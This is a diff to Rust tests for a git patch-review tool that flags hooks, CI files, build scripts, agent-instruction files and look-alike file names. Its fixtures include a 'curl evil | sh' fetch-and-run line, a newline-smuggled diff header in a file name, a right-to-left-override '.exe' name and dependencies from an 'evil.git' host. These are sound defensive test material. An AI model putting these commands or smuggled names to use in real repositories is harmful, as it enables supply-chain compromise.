@@ -462,26 +462,25 @@ fn quoted_unicode_and_escaped_names() {
                 String::from_utf8_lossy(&patch)
             );
         }
-        // A tab is a control character: such a name is refused, whatever the quoting.
-        let (_, why) = malformed_reason(&patch);
-        assert!(why.contains("control character U+0009"), "{why}");
-    }
-    fs::remove_file(fx.repo.join("tést\tx")).unwrap();
-    fx.git(&["add", "-A"]);
-    for quote_path in ["true", "false"] {
-        let config = format!("core.quotePath={quote_path}");
-        let base = fx.base.clone();
-        let patch = fx.git(&["-c", &config, "diff", "--cached", "--binary", "-M", &base]);
+        // A tab is a control character: such a name is read, and flagged.
         let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
         let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
-        assert_eq!(
-            paths,
-            [expected[0], expected[1], expected[3]],
-            "quotePath={quote_path}"
-        );
+        assert_eq!(paths, expected, "quotePath={quote_path}");
         assert_eq!(files[1].old_path.as_deref(), Some("old é.txt"));
     }
-    fx.summary(&["-M"]);
+    let summary = fx.summary(&["-M"]);
+    let tab = flags(&summary, "tést\tx");
+    assert_eq!(tab.len(), 1, "{summary:#?}");
+    assert_eq!(tab[0].0, SensitiveKind::UnusualPath);
+    assert!(
+        tab[0].1.contains("control character U+0009"),
+        "{}",
+        tab[0].1
+    );
+    assert!(
+        !tab[0].1.contains('\t'),
+        "reasons carry no control characters"
+    );
 }
 
 #[test]
@@ -506,13 +505,32 @@ fn content_that_looks_like_headers_stays_content() {
 }
 
 #[test]
-fn a_file_name_with_a_newline_is_refused() {
-    let fx = Fixture::new(|_| {}, |r| write(r, "x\ndiff --git a/evil b/evil", "boo\n"));
-    let patch = fx.patch(&[]);
-    let (line, why) = malformed_reason(&patch);
-    // The first line whose name is read on its own: `+++` (the header is checked against it).
-    assert_eq!(line, 5);
-    assert!(why.contains("control character U+000A"), "{why}");
+fn a_file_name_with_a_newline_is_read_and_flagged() {
+    let name = "x\ndiff --git a/evil b/evil";
+    let fx = Fixture::new(
+        |_| {},
+        |r| {
+            write(r, name, "boo\n");
+            write(r, ".github/workflows/ci.yml", "on: push\n");
+        },
+    );
+    let review = review(&fx.patch(&[]), DEFAULT_MAX_PATCH_BYTES, &fx.baseline());
+    assert_eq!(review.refusal, None);
+    let summary = review.summary;
+    assert_eq!(summary.files, 2);
+    assert_eq!((summary.additions, summary.deletions), (2, 0));
+    let flagged = flags(&summary, name);
+    assert_eq!(flagged.len(), 1, "{summary:#?}");
+    assert_eq!(flagged[0].0, SensitiveKind::UnusualPath);
+    assert!(
+        flagged[0].1.contains("control character U+000A"),
+        "{}",
+        flagged[0].1
+    );
+    assert_eq!(
+        flags(&summary, ".github/workflows/ci.yml")[0].0,
+        SensitiveKind::CiWorkflow
+    );
 }
 
 #[test]
@@ -635,7 +653,7 @@ fn every_sensitive_kind_from_real_diffs() {
         ("README.md", "hello\n", &[]),
         ("src/hooks/x.rs", "x\n", &[]),
         ("..foo", "a name, not a parent\n", &[]),
-        ("foo..", "x\n", &[]),
+        ("foo..", "x\n", &[UnusualPath]),
         ("github/workflows/x.yml", "x\n", &[]),
         ("my.gitattributes.txt", "x\n", &[]),
         ("docs/package.json.md", "x\n", &[]),
@@ -842,7 +860,6 @@ fn paths_that_leave_the_repository_are_refused() {
         ("a/x//y", "empty or '.' component"),
         ("a/./x", "empty or '.' component"),
         ("a/x/", "empty or '.' component"),
-        ("a/\u{202e}txt.exe", "control character U+202E"),
     ];
     for (name, expect) in refused {
         let b = name.replacen("a/", "b/", 1);
@@ -851,7 +868,7 @@ fn paths_that_leave_the_repository_are_refused() {
         assert!(why.contains(expect), "{name}: {why}");
     }
     let nul = b"diff --git \"a/x\\000y\" \"b/x\\000y\"\nold mode 100644\nnew mode 100755\n";
-    assert!(malformed_reason(nul).1.contains("control character U+0000"));
+    assert!(malformed_reason(nul).1.contains("NUL byte"));
 
     // A name that merely starts or ends with dots is fine.
     let ok = "diff --git a/..foo b/..foo\nold mode 100644\nnew mode 100755\n";
@@ -867,28 +884,20 @@ fn git_internals_are_flagged_not_hidden() {
                  index 0000000..1a24852\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+#!/bin/sh\n\
                  diff --git a/.git/config b/.git/config\nindex 1111111..2222222 100644\n--- a/.git/config\n\
                  +++ b/.git/config\n@@ -1 +1,3 @@\n [core]\n+\tHooksPath = \"/tmp/h\"\n+\tfsmonitor = x\n";
-    let summary = summarize(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
-    let hook = flags(&summary, ".git/hooks/pre-commit");
+    let review = review(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline);
+    let why = review.refusal.unwrap();
+    assert!(why.contains("inside git's own directory"), "{why}");
+    assert!(why.contains("and 1 more unreadable entries"), "{why}");
+    let summary = review.summary;
+    assert_eq!(summary.files, 2);
+    let kinds =
+        |path| -> Vec<SensitiveKind> { flags(&summary, path).into_iter().map(|f| f.0).collect() };
+    use SensitiveKind::*;
     assert_eq!(
-        hook,
-        [
-            (
-                SensitiveKind::GitHook,
-                "adds git hook .git/hooks/pre-commit"
-            ),
-            (SensitiveKind::ExecBit, "new executable file")
-        ]
+        kinds(".git/hooks/pre-commit"),
+        [GitHook, GitConfig, UnreadableEntry]
     );
-    assert_eq!(
-        flags(&summary, ".git/config"),
-        [
-            (SensitiveKind::GitHook, "sets core.hooksPath to /tmp/h"),
-            (
-                SensitiveKind::GitConfig,
-                "changes git config file .git/config"
-            )
-        ]
-    );
+    assert_eq!(kinds(".git/config"), [GitConfig, UnreadableEntry]);
 }
 
 #[test]
@@ -899,7 +908,7 @@ fn lying_structure_is_refused() {
         // The hunk claims more lines than it has: the next header is not a hunk line.
         (
             "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1,3 @@\n-a\n+b\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n",
-            "is not a hunk line",
+            "the patch ends early: the hunk needs 0 more old and 2 more new lines",
         ),
         // The hunk claims fewer lines: what follows is neither a hunk nor a file entry.
         (&format!("{ok_entry}+sneaky\n"), "expected a 'diff --git' line"),
@@ -1187,4 +1196,627 @@ fn mangled_patches_never_panic() {
             .collect();
         let _ = summarize(&garbage, DEFAULT_MAX_PATCH_BYTES, &no_baseline);
     }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Integrity of the review: every name git can write, look-alikes, the rules table.
+
+/// Every kind of name git can write is read exactly, counted as `--numstat` counts it, and
+/// the unusual ones are flagged `unusual-path`; no name hides another entry.
+#[test]
+fn every_name_git_can_write_is_read_and_counted() {
+    use std::ffi::OsStr;
+    use std::os::unix::ffi::OsStrExt;
+    let unusual: &[&[u8]] = &[
+        b"new\nline",
+        b"x\ndiff --git a/evil b/evil",
+        b"tab\there",
+        b"esc\x1b[2Jclear",
+        b"bell\x07",
+        b"del\x7f",
+        b"\xff\xfeinvalid utf-8",
+        b"half\xe2\x80",
+        b" leading space",
+        b"trailing space ",
+        "rlo \u{202e}gpj.exe".as_bytes(),
+        "lrm\u{200e}x".as_bytes(),
+        "zero\u{200b}width".as_bytes(),
+    ];
+    let plain: &[&[u8]] = &[
+        b"quote\"d",
+        b"back\\slash",
+        b"with space",
+        b"x b/y",
+        b"a/b",
+        b"b/a b/c d",
+        b"a b/b b/c",
+        b"-dash",
+        b"caf\xc3\xa9",
+        b"\"starts-with-quote",
+        b"tricky\\n\\t",
+    ];
+    let fx = Fixture::new(
+        |r| write(r, "keep", "k\n"),
+        |r| {
+            for (i, name) in unusual.iter().chain(plain).enumerate() {
+                let path = r.join(OsStr::from_bytes(name));
+                fs::create_dir_all(path.parent().unwrap()).unwrap();
+                fs::write(path, format!("{i}\n")).unwrap();
+            }
+            write(r, ".github/workflows/ci.yml", "on: push\n");
+        },
+    );
+    for quote_path in ["true", "false"] {
+        let config = format!("core.quotePath={quote_path}");
+        let base = fx.base.clone();
+        let patch = fx.git(&["-c", &config, "diff", "--cached", "--binary", &base]);
+        let review = review(&patch, DEFAULT_MAX_PATCH_BYTES, &fx.baseline());
+        assert_eq!(review.refusal, None, "quotePath={quote_path}");
+        let (files, additions, deletions) = fx.numstat(&[]);
+        let s = &review.summary;
+        assert_eq!(
+            (s.files, s.additions, s.deletions),
+            (files, additions, deletions)
+        );
+        assert_eq!(
+            s.files,
+            u64::try_from(unusual.len() + plain.len() + 1).unwrap()
+        );
+        let parsed = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
+        for name in plain {
+            let name = std::str::from_utf8(name).unwrap();
+            assert!(parsed.iter().any(|f| f.path() == name), "{name:?} not read");
+            assert!(flags(s, name).is_empty(), "{name:?}: {:?}", flags(s, name));
+        }
+        for name in unusual {
+            let shown = String::from_utf8_lossy(name);
+            assert!(
+                parsed.iter().any(|f| f.path() == shown),
+                "{shown:?} not read"
+            );
+            let flagged = flags(s, &shown);
+            assert_eq!(flagged.len(), 1, "{shown:?}: {flagged:?}");
+            assert_eq!(flagged[0].0, SensitiveKind::UnusualPath, "{shown:?}");
+            assert!(!flagged[0].1.chars().any(char::is_control), "{flagged:?}");
+        }
+        assert_eq!(
+            flags(s, ".github/workflows/ci.yml")[0].0,
+            SensitiveKind::CiWorkflow
+        );
+    }
+}
+
+/// A `diff --git` line whose split is ambiguous (unquoted names with spaces and `b/` inside)
+/// is decided by the `---`/`+++` or rename lines; with none (a mode change), only a header
+/// whose two halves name one file is read.
+#[test]
+fn ambiguous_headers_are_decided_by_the_other_lines() {
+    let fx = Fixture::new(
+        |r| {
+            write(r, "x b/y b/z", "1\n");
+            write(r, "m b/n", "1\n");
+        },
+        |r| {
+            write(r, "x b/y b/z", "2\n");
+            set_mode(r, "m b/n", 0o755);
+            write(r, "new b/c b/d", "n\n");
+        },
+    );
+    let summary = fx.summary(&[]);
+    assert_eq!(summary.files, 3);
+    let patch = fx.patch(&[]);
+    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
+    let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
+    assert_eq!(paths, ["m b/n", "new b/c b/d", "x b/y b/z"]);
+    assert_eq!(flags(&summary, "m b/n")[0].0, SensitiveKind::ExecBit);
+    // A rename whose header could split two ways: the rename lines say which.
+    let patch =
+        b"diff --git a/a b/c b/a b/d\nsimilarity index 100%\nrename from a b/c\nrename to a b/d\n";
+    let files = parse(patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
+    assert_eq!(files[0].old_path.as_deref(), Some("a b/c"));
+    assert_eq!(files[0].new_path.as_deref(), Some("a b/d"));
+    let patch =
+        b"diff --git a/a b/c b/a b/d\nsimilarity index 100%\nrename from a\nrename to c b/a b/d\n";
+    let files = parse(patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
+    assert_eq!(files[0].old_path.as_deref(), Some("a"));
+    assert_eq!(files[0].new_path.as_deref(), Some("c b/a b/d"));
+}
+
+/// An entry the parser cannot read is counted, its names are flagged as well as they can be
+/// guessed, and the review says the patch is refused; the entries around it still count.
+#[test]
+fn unreadable_entries_are_counted_and_flagged_never_dropped() {
+    let ok = "diff --git a/ok b/ok\nindex 1111111..2222222 100644\n--- a/ok\n+++ b/ok\n@@ -1 +1 @@\n-a\n+b\n";
+    let broken_ci = "diff --git a/.github/workflows/x.yml b/.github/workflows/x.yml\nnew file mode 100644\n\
+                     index 0000000..1111111\n--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1,5 @@\n+on: push\n";
+    let garbled = "diff --git a/Makefile b/Makefile\nthis is not git\n";
+    let smuggled = "--- a/evil.sh\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+x\n";
+    type Case<'a> = (String, u64, &'a [(&'a str, SensitiveKind)]);
+    let cases: &[Case<'_>] = &[
+        (
+            format!("{ok}{broken_ci}{ok}"),
+            2,
+            &[
+                (".github/workflows/x.yml", SensitiveKind::CiWorkflow),
+                (".github/workflows/x.yml", SensitiveKind::UnreadableEntry),
+            ],
+        ),
+        (
+            format!("{garbled}{ok}"),
+            2,
+            &[
+                ("Makefile", SensitiveKind::PackageScript),
+                ("Makefile", SensitiveKind::UnreadableEntry),
+            ],
+        ),
+        (
+            format!("{ok}{smuggled}"),
+            2,
+            &[("ok", SensitiveKind::UnreadableEntry)],
+        ),
+        (
+            format!("{smuggled}{ok}"),
+            2,
+            &[("evil.sh", SensitiveKind::UnreadableEntry)],
+        ),
+        (
+            format!("{ok}{ok}").trim_end().to_owned(),
+            1,
+            &[("ok", SensitiveKind::UnreadableEntry)],
+        ),
+    ];
+    for (patch, files, expected) in cases {
+        let review = review(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline);
+        assert!(review.refusal.is_some(), "{patch}");
+        assert!(
+            review.summary.files >= *files,
+            "{} < {files} for\n{patch}",
+            review.summary.files
+        );
+        for (path, kind) in *expected {
+            assert!(
+                flags(&review.summary, path).iter().any(|f| f.0 == *kind),
+                "{path} {kind:?}: {:#?}",
+                review.summary
+            );
+        }
+        let err = summarize(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap_err();
+        assert_eq!(Some(err.to_string()), review.refusal);
+    }
+}
+
+/// Look-alikes of sensitive names (Unicode case folding, NFKC, 8.3 short names, trailing dots
+/// and spaces, case) are flagged with the real kind, and `unusual-path` when the name is not
+/// plainly spelled. Real git writes all of them on Linux.
+#[test]
+fn look_alike_names_get_the_real_kind() {
+    use SensitiveKind::*;
+    let cases: &[(&str, &[SensitiveKind])] = &[
+        (".github/workflow\u{17f}/x.yml", &[CiWorkflow, UnusualPath]),
+        ("Ma\u{ff4b}efile", &[PackageScript, UnusualPath]),
+        ("Ma\u{212a}efile", &[PackageScript, UnusualPath]),
+        (".v\u{17f}code/tasks.json", &[AgentConfig, UnusualPath]),
+        ("build.r\u{17f}", &[PackageScript, UnusualPath]),
+        ("GITHUB~1/workflows/x.yml", &[CiWorkflow, UnusualPath]),
+        (".github/WORKFL~1/x.yml", &[CiWorkflow, UnusualPath]),
+        ("Makefile.", &[PackageScript, UnusualPath]),
+        ("Makefile ", &[PackageScript, UnusualPath]),
+        ("Makefile. .", &[PackageScript, UnusualPath]),
+        (".GitHub/Workflows/x.yml", &[CiWorkflow]),
+        ("MAKEFILE", &[PackageScript]),
+        (".hu\u{200c}sky/pre-commit", &[GitHook, UnusualPath]),
+        ("\u{ff0e}npmrc", &[PackageScript, UnusualPath]),
+        ("Docker\u{fb01}le", &[BuildConfig, UnusualPath]),
+        ("CLAUDE.m\u{1d5bd}", &[AgentConfig, UnusualPath]),
+        ("Makefile\u{a0}", &[PackageScript, UnusualPath]),
+        ("Makefile::$DATA", &[PackageScript, UnusualPath]),
+        ("CLAUDE~1.MD", &[AgentConfig, UnusualPath]),
+        ("PACKAG~1.JSO", &[PackageScript, UnusualPath]),
+        (".github /workflows/x.yml", &[CiWorkflow, UnusualPath]),
+        (
+            ".\u{200d}github/workflows/x.yml",
+            &[CiWorkflow, UnusualPath],
+        ),
+        ("Caf\u{c9}/Makefile", &[PackageScript]),
+        ("\u{c9}t\u{c9}/.github/workflows/x.yml", &[CiWorkflow]),
+        ("docs/makefile.md", &[]),
+        ("src/workflows/x.yml", &[]),
+        ("GITHUB~1/x.yml", &[]),
+    ];
+    let fx = Fixture::new(
+        |_| {},
+        |r| {
+            for (path, _) in cases {
+                write(r, path, "x\n");
+            }
+        },
+    );
+    let summary = fx.summary(&[]);
+    for (path, kinds) in cases {
+        let mut got: Vec<SensitiveKind> =
+            flags(&summary, path).into_iter().map(|(k, _)| k).collect();
+        got.sort_by_key(|k| *k as u8);
+        let mut want = kinds.to_vec();
+        want.sort_by_key(|k| *k as u8);
+        assert_eq!(got, want, "{path:?}: {:?}", flags(&summary, path));
+    }
+    assert!(reason(&summary, "Ma\u{212a}efile", UnusualPath).contains("look-alike of makefile"));
+}
+
+/// A path inside git's own directory, in any spelling a case-insensitive or Windows file
+/// system would resolve to it, makes the parser refuse the patch; the review still counts
+/// and flags it.
+#[test]
+fn git_directory_paths_in_any_spelling_are_refused_by_the_parser() {
+    let names = [
+        ".git/config",
+        ".GIT/config",
+        ".Git/hooks/x",
+        "sub/.git/info/exclude",
+        "sub/.gIT/hooks/post-checkout",
+        ".git./config",
+        ".git /config",
+        "GIT~1/config",
+        ".g\u{200c}it/config",
+        ".g\u{131}t/hooks/x",
+        "\u{ff0e}git/config",
+        ".git",
+        "deep/er/.GIT",
+        ".git\\config",
+        ".git::$INDEX_ALLOCATION/config",
+        ".GIT:$DATA",
+    ];
+    for name in names {
+        let quoted = name.replace('\\', "\\\\");
+        let patch = format!(
+            "diff --git \"a/{quoted}\" \"b/{quoted}\"\nnew file mode 100644\nindex 0000000..1111111\n\
+             --- /dev/null\n+++ \"b/{quoted}\"\n@@ -0,0 +1 @@\n+x\n"
+        );
+        let (_, why) = malformed_reason(patch.as_bytes());
+        assert!(why.contains("inside git's own directory"), "{name}: {why}");
+        let review = review(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline);
+        assert!(review.refusal.is_some());
+        assert_eq!(review.summary.files, 1, "{name}");
+        let kinds: Vec<SensitiveKind> = flags(&review.summary, name)
+            .into_iter()
+            .map(|f| f.0)
+            .collect();
+        assert!(
+            kinds.contains(&SensitiveKind::GitConfig),
+            "{name}: {kinds:?}"
+        );
+        assert!(
+            kinds.contains(&SensitiveKind::UnreadableEntry),
+            "{name}: {kinds:?}"
+        );
+        if name.contains("hooks") {
+            assert!(kinds.contains(&SensitiveKind::GitHook), "{name}: {kinds:?}");
+        }
+    }
+    // Names that merely contain `.git` are fine.
+    for name in [".github/x", ".gitignore", "x.git/y", "git~x/y", ".gitkeep"] {
+        let patch = format!("diff --git a/{name} b/{name}\nold mode 100644\nnew mode 100755\n");
+        parse(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES).unwrap();
+    }
+}
+
+/// The risky files of the table beyond the contract's own list.
+#[test]
+fn build_configuration_and_agent_instructions_are_flagged() {
+    use SensitiveKind::*;
+    let cases: &[(&str, &str, &[SensitiveKind])] = &[
+        (".envrc", "export X=1\n", &[BuildConfig]),
+        ("tests/conftest.py", "import os\n", &[BuildConfig]),
+        (".pre-commit-config.yaml", "repos: []\n", &[GitHook]),
+        ("tox.ini", "[tox]\n", &[BuildConfig]),
+        ("setup.cfg", "[metadata]\n", &[PackageScript]),
+        (".yarnrc.yml", "yarnPath: x.js\n", &[PackageScript]),
+        (".pnpmfile.cjs", "module.exports = {}\n", &[PackageScript]),
+        ("native/binding.gyp", "{}\n", &[PackageScript]),
+        ("rust-toolchain.toml", "[toolchain]\n", &[BuildConfig]),
+        ("rust-toolchain", "stable\n", &[BuildConfig]),
+        (".devcontainer/devcontainer.json", "{}\n", &[AgentConfig]),
+        (".github/actions/x/action.yml", "runs: {}\n", &[CiWorkflow]),
+        ("Dockerfile", "FROM x\n", &[BuildConfig]),
+        ("ci/build.dockerfile", "FROM x\n", &[BuildConfig]),
+        ("Containerfile", "FROM x\n", &[BuildConfig]),
+        ("justfile", "x:\n", &[BuildConfig]),
+        ("sub/CMakeLists.txt", "project(x)\n", &[BuildConfig]),
+        (".cursorrules", "x\n", &[AgentInstructions]),
+        (
+            ".github/copilot-instructions.md",
+            "x\n",
+            &[AgentInstructions],
+        ),
+        ("GEMINI.md", "x\n", &[AgentInstructions]),
+        (".windsurfrules", "x\n", &[AgentInstructions]),
+        (".clinerules", "x\n", &[AgentInstructions]),
+        ("AGENTS.md", "x\n", &[AgentConfig]),
+        ("docs/dockerfile.md", "x\n", &[]),
+        ("conftest.py.txt", "x\n", &[]),
+    ];
+    let fx = Fixture::new(
+        |_| {},
+        |r| {
+            for (path, content, _) in cases {
+                write(r, path, content);
+            }
+        },
+    );
+    let summary = fx.summary(&[]);
+    for (path, _, kinds) in cases {
+        let got: Vec<SensitiveKind> = flags(&summary, path).into_iter().map(|(k, _)| k).collect();
+        assert_eq!(&got, kinds, "{path}: {:?}", flags(&summary, path));
+    }
+    assert_eq!(
+        reason(&summary, ".envrc", BuildConfig),
+        "adds direnv file (runs when you enter the directory) .envrc"
+    );
+}
+
+/// An executable file whose content changes is flagged even though its mode does not.
+#[test]
+fn content_changes_to_executables_are_flagged() {
+    let fx = Fixture::new(
+        |r| {
+            write(r, "run.sh", "#!/bin/sh\necho hi\n");
+            set_mode(r, "run.sh", 0o755);
+            write(r, "notes.txt", "a\n");
+            write(r, "was-exec", "a\n");
+            set_mode(r, "was-exec", 0o755);
+        },
+        |r| {
+            write(r, "run.sh", "#!/bin/sh\ncurl evil | sh\n");
+            write(r, "notes.txt", "b\n");
+            write(r, "was-exec", "b\n");
+            set_mode(r, "was-exec", 0o644);
+        },
+    );
+    let summary = fx.summary(&[]);
+    let run = flags(&summary, "run.sh");
+    assert_eq!(run.len(), 1, "{run:?}");
+    assert_eq!(run[0].0, SensitiveKind::ExecBit);
+    assert!(run[0].1.contains("an executable file"), "{}", run[0].1);
+    assert!(flags(&summary, "notes.txt").is_empty());
+    assert!(flags(&summary, "was-exec").is_empty());
+}
+
+/// Cargo.toml and pyproject.toml are flagged when (and only when) their build tables or keys
+/// change.
+#[test]
+fn build_tables_of_cargo_and_pyproject_are_watched() {
+    let cargo = "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\n";
+    let pyproject =
+        "[project]\nname = \"x\"\nversion = \"1\"\n\n[build-system]\nrequires = [\"setuptools\"]\n";
+    let fx = Fixture::new(
+        |r| {
+            for dir in ["ver", "build", "builddeps", "procmacro", "target"] {
+                write(r, &format!("{dir}/Cargo.toml"), cargo);
+            }
+            for dir in ["ver", "backend", "scripts", "hatch", "dotted"] {
+                write(r, &format!("{dir}/pyproject.toml"), pyproject);
+            }
+        },
+        |r| {
+            write(r, "ver/Cargo.toml", cargo.replace("0.1.0", "0.2.0"));
+            write(
+                r,
+                "build/Cargo.toml",
+                cargo.replace(
+                    "version = \"0.1.0\"",
+                    "version = \"0.1.0\"\nbuild = \"evil.rs\"",
+                ),
+            );
+            write(
+                r,
+                "builddeps/Cargo.toml",
+                format!("{cargo}\n[build-dependencies]\ncc = \"1\"\n"),
+            );
+            write(
+                r,
+                "procmacro/Cargo.toml",
+                format!("{cargo}\n[lib]\nproc-macro = true\n"),
+            );
+            write(
+                r,
+                "target/Cargo.toml",
+                format!("{cargo}\n[target.'cfg(unix)'.build-dependencies]\ncc = \"1\"\n"),
+            );
+            write(
+                r,
+                "new/Cargo.toml",
+                format!("{cargo}\n[build-dependencies]\ncc = \"1\"\n"),
+            );
+            write(r, "plain-new/Cargo.toml", cargo);
+            write(
+                r,
+                "ver/pyproject.toml",
+                pyproject.replace("version = \"1\"", "version = \"2\""),
+            );
+            write(
+                r,
+                "backend/pyproject.toml",
+                pyproject.replace("setuptools", "evil-backend"),
+            );
+            write(
+                r,
+                "scripts/pyproject.toml",
+                format!("{pyproject}\n[project.scripts]\nx = \"x:main\"\n"),
+            );
+            write(
+                r,
+                "hatch/pyproject.toml",
+                format!("{pyproject}\n[tool.hatch.build.hooks.custom]\npath = \"h.py\"\n"),
+            );
+            write(
+                r,
+                "dotted/pyproject.toml",
+                pyproject.replace(
+                    "[project]\n",
+                    "project.entry-points.x = { y = \"z\" }\n[project]\n",
+                ),
+            );
+        },
+    );
+    let summary = fx.summary(&[]);
+    for flagged in [
+        "build/Cargo.toml",
+        "builddeps/Cargo.toml",
+        "procmacro/Cargo.toml",
+        "target/Cargo.toml",
+        "new/Cargo.toml",
+        "backend/pyproject.toml",
+        "scripts/pyproject.toml",
+        "hatch/pyproject.toml",
+        "dotted/pyproject.toml",
+    ] {
+        let got = flags(&summary, flagged);
+        assert_eq!(got.len(), 1, "{flagged}: {summary:#?}");
+        assert_eq!(got[0].0, SensitiveKind::PackageScript, "{flagged}");
+        assert!(
+            got[0].1.contains("build settings"),
+            "{flagged}: {}",
+            got[0].1
+        );
+    }
+    for quiet in [
+        "ver/Cargo.toml",
+        "plain-new/Cargo.toml",
+        "ver/pyproject.toml",
+    ] {
+        assert!(
+            flags(&summary, quiet).is_empty(),
+            "{quiet}: {:?}",
+            flags(&summary, quiet)
+        );
+    }
+    // Without the baseline, a changed manifest cannot be compared: flagged.
+    let patch = fx.patch(&[]);
+    let summary = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
+    assert!(
+        reason(&summary, "ver/Cargo.toml", SensitiveKind::PackageScript)
+            .contains("could not be compared")
+    );
+}
+
+/// package.json dependencies that npm would fetch from outside the registry are flagged.
+#[test]
+fn package_json_dependencies_from_outside_the_registry_are_flagged() {
+    let pkg =
+        |deps: &str| format!("{{\n  \"name\": \"x\",\n  \"dependencies\": {{{deps}\n  }}\n}}\n");
+    let base = "\n    \"left-pad\": \"^1.0.0\"";
+    let fx = Fixture::new(
+        |r| {
+            for dir in ["semver", "git", "file", "short", "kept"] {
+                write(r, &format!("{dir}/package.json"), pkg(base));
+            }
+            write(
+                r,
+                "kept/package.json",
+                pkg("\n    \"x\": \"git+https://e.invalid/x.git\""),
+            );
+        },
+        |r| {
+            write(
+                r,
+                "semver/package.json",
+                pkg("\n    \"left-pad\": \"^1.3.0\""),
+            );
+            write(
+                r,
+                "git/package.json",
+                pkg("\n    \"left-pad\": \"git+https://e.invalid/evil.git\""),
+            );
+            write(
+                r,
+                "file/package.json",
+                pkg(&format!("{base},\n    \"y\": \"file:../y\"")),
+            );
+            write(
+                r,
+                "short/package.json",
+                pkg("\n    \"left-pad\": \"evil/left-pad#main\""),
+            );
+            write(
+                r,
+                "kept/package.json",
+                pkg("\n    \"x\": \"git+https://e.invalid/x.git\",\n    \"z\": \"1\""),
+            );
+        },
+    );
+    let summary = fx.summary(&[]);
+    for flagged in [
+        "git/package.json",
+        "file/package.json",
+        "short/package.json",
+    ] {
+        let got = flags(&summary, flagged);
+        assert_eq!(got.len(), 1, "{flagged}: {got:?}");
+        assert_eq!(got[0].0, SensitiveKind::PackageScript);
+        assert!(got[0].1.contains("not from the registry"), "{}", got[0].1);
+    }
+    assert!(flags(&summary, "semver/package.json").is_empty());
+    assert!(flags(&summary, "kept/package.json").is_empty());
+}
+
+/// The README's table of kinds is the code's table: regenerate it with
+/// `DYNOCAP_BLESS_README=1 cargo test -p dynocap-engine readme_lists`.
+#[test]
+fn readme_lists_every_kind_with_the_rules_of_the_table() {
+    const BEGIN: &str =
+        "<!-- sensitive-kinds:begin (generated from crates/engine/src/patch/rules.rs) -->\n";
+    const END: &str = "<!-- sensitive-kinds:end -->";
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../README.md");
+    let readme = fs::read_to_string(&path).unwrap();
+    let table = kinds_markdown();
+    let (head, rest) = readme
+        .split_once(BEGIN)
+        .expect("README has the kinds markers");
+    let (current, tail) = rest.split_once(END).expect("README has the end marker");
+    if current != table && std::env::var_os("DYNOCAP_BLESS_README").is_some() {
+        fs::write(&path, format!("{head}{BEGIN}{table}{END}{tail}")).unwrap();
+        return;
+    }
+    assert_eq!(current, table, "the README's kinds table is stale");
+    for kind in SensitiveKind::ALL {
+        assert!(table.contains(&format!("| `{}` |", kind.as_str())));
+        let json = serde_json::to_value(kind).unwrap();
+        assert_eq!(json.as_str(), Some(kind.as_str()));
+    }
+}
+
+/// The TOML reader attributes every line to its dotted key path: headers, dotted and quoted
+/// keys, inline tables and the continuation lines of multi-line values.
+#[test]
+fn toml_watched_parts_follow_tables_and_dotted_keys() {
+    let watch = [
+        "package.build",
+        "build-dependencies",
+        "target.*.build-dependencies",
+    ];
+    let read = |text: &str| toml_keys::watched(text, &watch);
+    assert!(read("[package]\nname = \"x\"\nversion = \"1\"\n").is_empty());
+    assert_eq!(
+        read("[package]\nbuild=\"b.rs\"\n"),
+        ["package.build build=\"b.rs\""]
+    );
+    assert_eq!(read("[ package ]\n\"build\" = \"b.rs\"\n").len(), 1);
+    assert_eq!(read("package.build = \"b.rs\"\n").len(), 1);
+    assert_eq!(
+        read("package = { name = \"x\", build = \"b.rs\" }\n").len(),
+        1
+    );
+    assert_eq!(
+        read("[target.\"cfg(unix)\".build-dependencies]\ncc = \"1\"\n").len(),
+        2
+    );
+    assert_eq!(
+        read("[build-dependencies]\ncc = [\n  \"1\",\n]\n[dependencies]\nx = \"1\"\n").len(),
+        4
+    );
+    // Comments and blank lines are not content.
+    assert_eq!(
+        read("[build-dependencies]\n# a\n\ncc = \"1\"\n"),
+        read("[build-dependencies]\ncc = \"1\"\n")
+    );
 }
